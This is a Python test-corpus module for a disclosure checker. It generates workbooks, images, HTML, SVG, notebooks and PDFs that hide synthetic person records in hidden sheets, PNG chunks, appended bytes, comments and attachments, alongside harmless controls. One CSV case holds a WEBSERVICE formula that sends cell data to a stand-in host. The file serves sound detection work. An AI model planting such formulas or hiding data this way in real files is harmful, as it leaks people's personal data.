"""Data behind what is seen: sheets, comments, chunks, scripts, attachments; and the usual metadata."""

from __future__ import annotations

import base64
import io
import json
import struct
import zlib

import openpyxl
import pandas as pd
from openpyxl.comments import Comment

from tests.corpus import formats
from tests.corpus.case import Case, Draw, cases
from tests.corpus.chapters.min_cell import chart
from tests.corpus.population import people


def records() -> pd.DataFrame:
    return people()[["person_id", "district", "race", "gpa", "wage"]].head(40)


def csv_text() -> str:
    return records().to_csv(index=False)


def workbook() -> tuple[openpyxl.Workbook, openpyxl.worksheet.worksheet.Worksheet]:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Table 1"
    for row in (["County", "Students"], ["Fresno", 1_873], ["Kern", 1_240], ["Merced", 655]):
        sheet.append(row)
    return book, sheet


def picture(kind: str = "png") -> bytes:
    """A small bar chart as matplotlib writes it."""
    from matplotlib.figure import Figure

    figure = Figure(figsize=(3, 2))
    figure.subplots().bar(["Fresno", "Kern"], [1_873, 1_240])
    buffer = io.BytesIO()
    figure.savefig(buffer, format=kind, metadata={"CreationDate": None} if kind == "pdf" else None)
    return buffer.getvalue()


def with_chunk(png: bytes, keyword: bytes, text: bytes) -> bytes:
    """A text chunk before the end of a PNG."""
    body = keyword + b"\0" + text
    chunk = struct.pack(">I", len(body)) + b"tEXt" + body + struct.pack(">I", zlib.crc32(b"tEXt" + body))
    return png[:-12] + chunk + png[-12:]


@cases(6)
def hidden_parts_of_a_workbook(draw: Draw) -> Case:
    book, sheet = workbook()
    data = [list(records().columns), *records().to_numpy().tolist()]
    if draw.turn in (0, 1):
        other = book.create_sheet("raw")
        for row in data:
            other.append(row)
        other.sheet_state = ["hidden", "veryHidden"][draw.turn]
        why = "a hidden sheet holds persons"
    elif draw.turn == 2:
        for i, row in enumerate(data, 10):
            for j, v in enumerate(row, 1):
                sheet.cell(i, j, v)
            sheet.row_dimensions[i].hidden = True
        why = "hidden rows hold persons"
    elif draw.turn == 3:
        for i, row in enumerate(data, 1):
            for j, v in enumerate(row, 6):
                sheet.cell(i, j, v)
        for letter in "FGHIJ":
            sheet.column_dimensions[letter].hidden = True
        why = "hidden columns hold persons"
    elif draw.turn == 4:
        sheet["B2"].comment = Comment("person_id 481920331: wage 88,213.40; 552010338: wage 41,002.11", "analyst")
        why = "a cell comment holds persons' wages"
    else:
        for i, row in enumerate(data, 1):
            for j, v in enumerate(row, 10):
                sheet.cell(i, j, v).number_format = ";;;"
        why = "cells formatted to be invisible hold persons"
    return draw.disclosive("hidden_content unit_record", why, {"table.xlsx": formats.save_book(book)})


@cases(5)
def behind_a_picture(draw: Draw) -> Case:
    png = picture()
    packed = base64.b64encode(csv_text().encode())
    made = [
        ("figure.png", with_chunk(png, b"Comment", csv_text().encode()), "a text chunk holds persons"),
        ("figure.png", png + csv_text().encode(), "bytes behind the picture's end hold persons"),
        ("figure.png", png + b"PK\x03\x04" + packed, "an archive hangs behind the picture"),
        ("figure.jpg", picture("jpg") + csv_text().encode(), "bytes behind the picture's end hold persons"),
        ("figure.png", with_chunk(png, b"data", packed), "a text chunk holds encoded persons"),
    ]
    name, data, why = made[draw.turn]
    return draw.disclosive("hidden_content", why, {name: data})


@cases(6)
def behind_a_page(draw: Draw) -> Case:
    packed = base64.b64encode(csv_text().encode()).decode()
    page = "<html><body><h1>Results</h1><table><tr><th>County</th><th>Students</th></tr><tr><td>Fresno</td><td>1,873</td></tr></table>{}</body></html>"
    svg = chart({"Fresno": 1_873, "Kern": 1_240}).decode()
    cells = json.loads(
        formats.notebook([formats.markdown_cell("# Results"), formats.code_cell("x", formats.stdout("done\n"))])
    )
    cells["cells"][0]["attachments"] = {"data.csv": {"text/csv": packed}}
    widgets = json.loads(formats.notebook([formats.code_cell("w", formats.stdout("done\n"))]))
    widgets["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"a": {"state": {"_data": records().to_dict("records")}}}
        }
    }
    made = [
        (
            "report.html",
            page.format(f"<script>const rows = {records().to_json(orient='records')};</script>"),
            "a script holds persons",
        ),
        (
            "report.html",
            page.format(f'<div style="display:none">{records().to_html()}</div>'),
            "an invisible block holds persons",
        ),
        (
            "report.html",
            page.format(f'<a href="data:text/csv;base64,{packed}">download</a>'),
            "a data URI holds persons",
        ),
        (
            "chart.svg",
            svg.replace("</svg>", f"<script>var d='{packed}'</script></svg>"),
            "a script in an SVG holds persons",
        ),
        ("results.ipynb", json.dumps(cells), "an attachment of a notebook holds persons"),
        ("results.ipynb", json.dumps(widgets), "the widget state of a notebook holds persons"),
    ]
    name, text, why = made[draw.turn]
    return draw.disclosive("hidden_content unit_record", why, {name: text.encode()})


@cases(3)
def comments_in_pages(draw: Draw) -> Case:
    made = [
        (
            "report.html",
            f"<html><body><p>See table 1.</p><!-- {csv_text()} --></body></html>",
            "a comment of the page holds persons",
        ),
        ("report.md", f"# Results\n\nSee table 1.\n\n<!--\n{csv_text()}\n-->\n", "a comment of the page holds persons"),
        (
            "table.csv",
            'County,Students\nFresno,"=WEBSERVICE(""http://x.example/?""&A1)"\nKern,1240\n',
            "a formula in a text cell sends data away",
        ),
    ]
    name, text, why = made[draw.turn]
    return draw.disclosive("hidden_content unit_record", why, {name: text.encode()})


@cases(2)
def attachment_of_a_pdf(draw: Draw) -> Case:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(picture("pdf"))))
    writer.add_attachment("data.csv", csv_text().encode())
    buffer = io.BytesIO()
    writer.write(buffer)
    data = buffer.getvalue() if draw.turn == 0 else picture("pdf") + b"\n" + csv_text().encode()
    return draw.disclosive(
        "hidden_content", "an attachment or bytes behind the end of a PDF hold persons", {"figure.pdf": data}
    )


# --- harmless -------------------------------------------------------------------------------------------------------------------------


@cases(6)
def ordinary_pictures(draw: Draw) -> Case:
    """PNG, JPEG, PDF and SVG as matplotlib and seaborn write them, with their Software chunk."""
    kind = draw.cycle(["png", "pdf", "jpg", "svg", "png", "pdf"])
    files = {
        f"figure.{kind}": chart({"Fresno": 1_873, "Kern": 1_240, "Merced": 655}) if kind == "svg" else picture(kind)
    }
    if draw.sidecar:
        files["figure.context.yaml"] = (
            f"table: figure.{kind}\nkind: frequency\npopulation: 2019 high school graduates\n".encode()
        )
    return draw.harmless("hidden_content", "a plain picture of two large counts", files)


@cases(4)
def ordinary_workbooks(draw: Draw) -> Case:
    book, sheet = workbook()
    book.properties.creator, book.properties.title, book.properties.company = "Analyst", "Table 1", None
    if draw.turn == 1:
        notes = book.create_sheet("Notes")
        for line in ("Source: linked records", "Cells below 11 are suppressed", "Contact: research office"):
            notes.append([line])
    elif draw.turn == 2:
        sheet.freeze_panes, sheet.auto_filter.ref = "A2", "A1:B4"
        sheet["B5"] = "=SUM(B2:B4)"
        sheet["A5"] = "Total"
    elif draw.turn == 3:
        sheet.column_dimensions["A"].width = 30
        sheet.print_title_rows = "1:1"
    if draw.turn == 2:
        sheet["B5"] = 3_768
    return draw.harmless("hidden_content", "ordinary properties of a workbook", {"table.xlsx": formats.save_book(book)})


@cases(3)
def ordinary_pages(draw: Draw) -> Case:
    made = [
        ("report.html", '<!DOCTYPE html><html><head><meta charset="utf-8"><style>table{border:1px}</style></head><body><!-- table 1 --><table><tr><th>County</th><th>Students</th></tr><tr><td>Fresno</td><td>1,873</td></tr><tr><td>Kern</td><td>1,240</td></tr></table></body></html>'),
        ("report.md", "# Results\n\n<!-- reviewed -->\n\n| County | Students |\n|---|---:|\n| Fresno | 1,873 |\n| Kern | 1,240 |\n\n[Source](https://www.example.org/data)\n"),
        ("table.csv", "County,Change,Students\nFresno,-1.2,1873\nKern,+0.8,1240\nMerced,-0.3,655\n"),
    ]  # fmt: skip
    name, text = made[draw.turn]
    return draw.harmless("hidden_content", "an ordinary page or table", {name: text.encode()})


@cases(2)
def notebooks_with_pictures(draw: Draw) -> Case:
    shown = {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "image/png": base64.b64encode(picture()).decode(),
            "text/plain": ["<Figure size 300x200 with 1 Axes>"],
        },
    }
    cells = [formats.markdown_cell("# Enrollment by county"), formats.code_cell("df.plot.bar()", shown)]
    return draw.harmless(
        "hidden_content",
        "a notebook with one chart of large counts",
        {draw.cycle(["plot.ipynb", "figures.ipynb"]): formats.notebook(cells)},
    )
